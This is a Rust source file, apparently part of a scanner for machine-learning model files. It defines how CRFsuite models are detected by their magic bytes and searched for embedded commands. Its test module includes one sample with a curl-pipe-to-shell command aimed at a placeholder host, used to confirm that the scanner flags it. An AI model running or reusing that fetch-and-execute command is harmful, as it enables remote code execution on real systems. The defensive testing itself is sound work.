//! CRFsuite's models: weights and dictionaries, nothing that runs.

use crate::fact::Facts;
use crate::format::{Claim, Format, Item, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "crfsuite",
    title: "CRFsuite model",
    family: "crfsuite",
    wants,
    read,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    probe.starts(b"lCRF").then_some(Claim::Magic)
}

fn read(item: &Item<'_>, facts: &mut Facts) {
    search(item, facts);
}

#[cfg(test)]
pub(crate) mod tests {
    use crate::finding::Verdict;
    use crate::vet;

    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"lCRF\x10\0\0\0FOMC".to_vec(),
            b"lCRFos.system('curl http://x.example/p.sh | sh')\0".to_vec(),
        ]
    }

    #[test]
    fn commands_in_it_are_found() {
        let [good, bad] = &samples()[..] else { panic!() };
        assert_eq!(vet("m.crfsuite", good).verdict, Verdict::NothingFound);
        assert!(vet("m.crfsuite", bad).verdict.is_flagged());
    }
}
